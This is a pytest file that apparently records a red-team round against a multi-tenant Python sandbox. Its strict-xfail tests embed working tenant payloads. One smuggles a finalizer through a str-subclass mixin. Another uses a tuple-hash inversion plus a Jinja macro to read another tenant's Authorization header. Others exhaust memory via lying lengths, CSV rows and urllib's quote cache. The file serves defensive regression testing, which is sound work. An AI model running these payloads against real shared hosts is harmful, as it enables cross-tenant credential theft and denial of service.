"""Round 7: an independent attacker against main at d2efba1 (after round 6's fixes).

Each test asserts what a safe sandbox does and is a strict xfail while the
attack works on main (the repository's convention for attack rounds): an
XFAIL here is the attack succeeding; once a fix lands, the test XPASSes,
fails as strict, and its marker comes off.

Findings, by class:

1. *A value-type subclass gets ``__eq__``/``__hash__`` from a tenant mixin*
   (**tenant code outside any request**, round 6's class 5 again).
   ``refused_value_member`` (``sandbox/guards/own_objects.py:89``) is asked,
   by ``ClassFactory.__call__`` (``sandbox/runtime.py:152``), about the names
   the *new* class defines only. ``class Mask: __eq__, __hash__`` is not a
   value type, so it may define them; ``class Name(Mask, str): pass``
   defines nothing and inherits both ahead of ``str`` in its MRO. A
   ``Name("A")`` hashes and compares as ``"__del__"`` while its characters
   are ``"A"``: ``_check_member_names`` (``sandbox/facades/classes.py:154``,
   ``str.startswith(name, "_")``) passes it, ``enum.Enum("E", {Name("A"):
   f, ...})`` keeps it as a key of the class's dict, and CPython's slot
   lookup for ``__del__`` finds ``f``: the tenant's finalizer runs when the
   collector frees a member (after eviction: no request).
   The same mixin gives ``str`` subclasses their own ``__len__`` (refused on
   ``class T(str)`` itself by ``TEXT_MAY_DEFINE``), and the size guards ask
   it (**DoS**, growth in one C call): ``str.join``
   (``sandbox/guards/natives.py:110``, ``total += len(item)``) and
   %-formatting size each piece by ``len()``; 25 pieces of 8 MB that say
   they are 1 character long are joined into 200 MB and the request
   answers 200, against a 32 MB budget.
2. *A process-wide cache the uncacher missed, and a host callable as a
   special method* (**cross-tenant**: reads another tenant's request).
   ``disable_shared_caches`` (``sandbox/facades/text.py:116``) unwraps
   ``_tp_cache`` on typing's functions and classes, but ``typing.Literal``
   is a ``_LiteralSpecialForm`` *instance* whose ``_getitem`` is the
   ``lru_cache(typed=True)`` wrapper (``_uncache_typing`` looks at
   ``vars()`` of classes and ``__func__`` of functions only,
   ``sandbox/facades/text.py:125``): ``Literal[x]`` keys stay in a cache every
   tenant shares. A key hashed to collide with ``Literal["a"]``'s (the
   tuple hash is invertible; ``hash(str)`` is recovered from
   ``hash(Literal["probe"])``) has its ``__eq__`` run when the victim writes
   ``Literal["a"]``. ``context.visible()`` (``muxserver/tenant_api/
   context.py:68``) would hide the victim's request from a tenant function
   — but that ``__eq__`` is a Jinja ``Macro`` (a template passes its macro
   out: ``{{ sink.append(m) }}``; a decorator on ``def __eq__`` returns it,
   and ``ClassFactory`` does not ask what a special method's value is): no
   frame of the attacker's module is on the stack, the nearest tenant frame
   is the victim's, and the macro reads the victim's ``Authorization``.
3. *Growth in one C call* (**DoS**, the §11 class): ``csv.reader``
   (``sandbox/facades/streams.py:118``) ticks once a row, but a row is
   parsed in one C call with no bound on its number of fields (only on a
   field's size): 12 MB of commas is a list of 12 M pointers to ``''``,
   ~170 MB peak against a 32 MB budget, the process held ~0.4 s.
4. *A process-wide cache that keeps tenant text* (**DoS**, memory outside
   every budget). ``quote``/``quote_plus``/``quote_from_bytes``
   (``sandbox/facades/text.py:172``) bound the text to 512 KB but not
   ``safe``, and CPython keeps ``safe`` (encoded) as the key of
   ``urllib.parse._byte_quoter_factory``'s ``lru_cache(128)``: 8 MB a
   request stays after the request, after eviction and after a full
   collection (up to ~1 GB with 128 keys). ``disable_shared_caches``
   (``sandbox/facades/text.py:116``) does not unwrap it; nor the
   ``urlsplit`` that ``urllib.request`` imported by name before it ran.
"""

import gc
import urllib.parse
import sys

import pytest

from tests.sandbox.inprocess import SandboxHost
from tests.sandbox.rounds import LIMITS
from tests.sandbox.rounds import assert_contained
from tests.sandbox.rounds import assert_no_finalizer_ran
from tests.sandbox.rounds import eavesdrop_in_process
from tests.sandbox.rounds import eavesdrop_over_http
from tests.sandbox.rounds import serve_in_fresh_process

# -- 1. a value-type subclass inherits __eq__/__hash__ from a tenant mixin -------------

ENUM_FINALIZER_BY_MIXIN = '''
import enum

class Mask:
    def __hash__(self):
        return hash("__del__")

    def __eq__(self, other):
        return str(other) == "__del__" or str.__str__(self) == str(other)

class Name(Mask, str):    # defines nothing itself: the rule has nothing to refuse
    pass

def finalizer(self):
    raise ValueError("the tenant's __del__ ran at collection")

E = enum.Enum("E", {Name("A"): finalizer, "B": 1, "C": 2})

def get():
    return repr(list(E))
'''


def test_value_type_mixin_smuggles_del_through_enum(tmp_path):
    assert_no_finalizer_ran(SandboxHost(tmp_path), "r7-enum-del", ENUM_FINALIZER_BY_MIXIN)


MIXIN_VALUE_TYPE = '''
class Mask:
    def __hash__(self):
        return hash("other")

    def __eq__(self, other):
        return True

class Text(Mask, str):
    pass

def get():
    t = Text("abc")
    return repr([t == "anything", hash(t) == hash("other")])
'''


def test_value_type_subclass_cannot_inherit_identity_from_a_tenant_mixin(tmp_path):
    host = SandboxHost(tmp_path)
    host.write("r7-mixin", {"index.py": MIXIN_VALUE_TYPE}, LIMITS)
    outcome = host.request("r7-mixin")
    assert outcome.status == "deploy" or outcome.body != "[True, True]", outcome


LYING_LENGTH = '''
class Short:
    def __len__(self):
        return 1

class Big(Short, str):
    pass

BIG = Big("x" * (8 * 1024 * 1024))

def get():
    return str(len(EXPR))
'''


@pytest.mark.parametrize("expr", ['"".join([BIG] * 25)', '("%s" * 25) % tuple([BIG] * 25)',
                                  'BIG.join(["a"] * 25)'])
def test_value_type_mixin_len_lies_to_size_guards(tmp_path, expr):
    assert_contained(serve_in_fresh_process(tmp_path, "r7-len", LYING_LENGTH.replace("EXPR", expr)))


# -- 2. typing.Literal's process-wide cache, and a Macro as __eq__ -----------------------

LITERAL_EAVESDROPPER = r'''
import typing
from flask import render_template_string

stolen = []
sink = []
MASK = (1 << 64) - 1
P1 = 11400714785074694791
P2 = 14029467366897019727
P5 = 2870177450012600261

def inverse(a):
    return pow(a, -1, 1 << 64)

def rotl(x, r):
    return ((x << r) | (x >> (64 - r))) & MASK

def step(acc, lane):                      # CPython 3.11's tuple hash, one item
    return rotl((acc + lane * P2) & MASK, 31) * P1 & MASK

def unstep(acc, lane):
    return (rotl(acc * inverse(P1) & MASK, 33) - lane * P2) & MASK

def lane_at(acc_before, acc_after):
    return (rotl(acc_after * inverse(P1) & MASK, 33) - acc_before) * inverse(P2) & MASK

def signed(v):
    return v - (1 << 64) if v >= (1 << 63) else v

def pair_hash_to_second(h, first):        # hash((first, X)) == h  ->  hash(X)
    acc = ((h & MASK) - (2 ^ (P5 ^ 3527539))) & MASK
    return lane_at(step(P5, hash(first) & MASK), acc)

def frozenset1_to_element(h):             # hash(frozenset({e})) == h  ->  hash(e)
    x = ((h & MASK) - 907133923) * inverse(69069) & MASK
    y = x
    for i in range(64):
        y = x ^ (y >> 11) ^ (y >> 25)
    y ^= 2 * 1927868237
    g = y * inverse(3644798167) & MASK
    t = g ^ 89869747
    for i in range(64):
        t = (g ^ 89869747) ^ ((t << 16) & MASK)
    return t

def lane_for(target, first, third, fourth):   # hash((first, X, third, fourth)) == target
    acc = (target & MASK) - (4 ^ (P5 ^ 3527539)) & MASK
    acc = unstep(acc, hash(fourth) & MASK)
    acc = unstep(acc, hash(third) & MASK)
    return signed(lane_at(step(P5, hash(first) & MASK), acc))

TEMPLATE = ("{% macro m(o) %}{{ stolen.append(request.headers.get('Authorization')) or '' }}"
            "{% endmacro %}{{ sink.append(m) or '' }}")

def replaced_by(value):
    return lambda func: value

def get():
    if stolen:
        return "stolen: " + " | ".join(str(s) for s in stolen)
    render_template_string(TEMPLATE, sink=sink, stolen=stolen)
    macro = sink[0]

    class Key:
        @replaced_by(macro)               # __eq__ is the host's Macro: no frame of this module
        def __eq__(self, other):
            return False

        def __hash__(self):
            return self.lane

    # The victim's key is (Literal, "a", _LiteralSpecialForm, str) (typed=True);
    # hash(str) as the host sees it comes out of a Literal's own hash.
    hash_str = pair_hash_to_second(frozenset1_to_element(hash(typing.Literal["probe"])), "probe")
    acc = P5
    for lane in (hash(typing.Literal), hash("a"), hash(type(typing.Literal)), hash_str):
        acc = step(acc, lane & MASK)
    target = signed((acc + (4 ^ (P5 ^ 3527539))) & MASK)
    k = Key()
    k.lane = lane_for(target, typing.Literal, type(typing.Literal), Key)
    typing.Literal[k]
    return "planted"
'''

LITERAL_VICTIM = '''
import typing
def get():
    return "victim: " + repr(typing.Literal["a"])
'''


#: The same key with an __eq__ of the tenant's own: it is refused no more,
#: so this checks that typing's cache no longer compares tenants' keys.
LITERAL_OWN_EQ = LITERAL_EAVESDROPPER.replace(
    "        @replaced_by(macro)               # __eq__ is the host's Macro: no frame of this module\n"
    "        def __eq__(self, other):\n            return False\n",
    "        def __eq__(self, other):\n            stolen.append('compared in a lookup')\n"
    "            return False\n")


def test_typing_caches_do_not_compare_one_tenants_key_in_anothers_lookup(tmp_path):
    assert LITERAL_OWN_EQ != LITERAL_EAVESDROPPER
    host = SandboxHost(tmp_path)
    host.write("r7-lit-own", {"index.py": LITERAL_OWN_EQ}, LIMITS)
    host.write("r7-lit-victim2", {"index.py": LITERAL_VICTIM}, LIMITS)
    assert host.request("r7-lit-own").body == "planted"
    assert host.request("r7-lit-victim2").body == "victim: typing.Literal['a']"
    assert host.request("r7-lit-own").body == "planted", "its __eq__ ran in another's lookup"


def test_literal_cache_and_macro_read_another_tenants_request(tmp_path):
    planted, victim, stolen = eavesdrop_in_process(tmp_path, "r7-lit", LITERAL_EAVESDROPPER,
                                                   LITERAL_VICTIM)
    # Refused since: a special method bound to a host callable (the macro).
    assert "must be a function of this tenant's code" in planted.text
    assert victim == "victim: typing.Literal['a']"
    assert "victim-token" not in stolen, stolen


def test_literal_cache_and_macro_over_http(tmp_path):
    # The eavesdropper's module is refused since (the macro as __eq__).
    victim, stolen = eavesdrop_over_http(tmp_path, LITERAL_EAVESDROPPER, LITERAL_VICTIM)
    assert victim == "victim: typing.Literal['a']"
    assert "victim-token" not in stolen, stolen


# -- 3. growth in one C call -------------------------------------------------------------

CSV_ONE_ROW = ("import csv, io\nTEXT = ',' * (12 * 1024 * 1024)\n"
               "def get():\n    return str(len(next(csv.reader(io.StringIO(TEXT)))))\n")


def test_csv_row_of_many_fields_is_bounded(tmp_path):
    assert_contained(serve_in_fresh_process(tmp_path, "r7-csv", CSV_ONE_ROW))


# -- 4. urllib.parse's quoter cache keeps each tenant's safe= --------------------------

QUOTE_KEEPS_SAFE = '''
import urllib.parse, random
def get():
    safe = str(random.random()) + "x" * (8 * 1024 * 1024)
    return urllib.parse.quote("a b", safe=safe)
'''


def _rss_mb() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * 4096 // 2**20


def test_quote_safe_is_not_kept_after_eviction(tmp_path):
    factory = urllib.parse._byte_quoter_factory
    host = SandboxHost(tmp_path)
    gc.collect()
    cached = getattr(factory, "cache_info", None)  # none since: the cache is off
    before, entries = _rss_mb(), cached().currsize if cached else 0
    for i in range(5):
        name = f"r7-quote-{i}"
        host.write(name, {"index.py": QUOTE_KEEPS_SAFE}, LIMITS)
        outcome = host.request(name)  # refused since: safe= is bounded like the text
        assert outcome.body == "a%20b" or "SizeLimitError" in outcome.text, outcome
        host.close(name)
    gc.collect()
    grown = _rss_mb() - before
    kept = (cached().currsize if cached else 0) - entries
    assert kept == 0 and grown < 24, f"{kept} safe= keys kept; RSS grew {grown} MB"


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))


def test_the_caches_tenants_reach_are_off_wherever_they_were_imported():
    """urlsplit, quote's quoters and typing's special forms (Literal's too)
    keep nothing once the sandbox has turned the caches off — in every
    module that holds them (urllib.request imported urlsplit by name)."""
    from sandbox.facades.text import disable_shared_caches
    import urllib.request

    disable_shared_caches()
    for cached in (urllib.parse.urlsplit, urllib.request.urlsplit,
                   urllib.parse._byte_quoter_factory):
        assert not hasattr(cached, "cache_info"), cached
    typing_literal = __import__("typing").Literal
    cells = [c.cell_contents for c in typing_literal._getitem.__closure__ or ()]
    assert not any(hasattr(c, "cache_info") for c in cells), cells
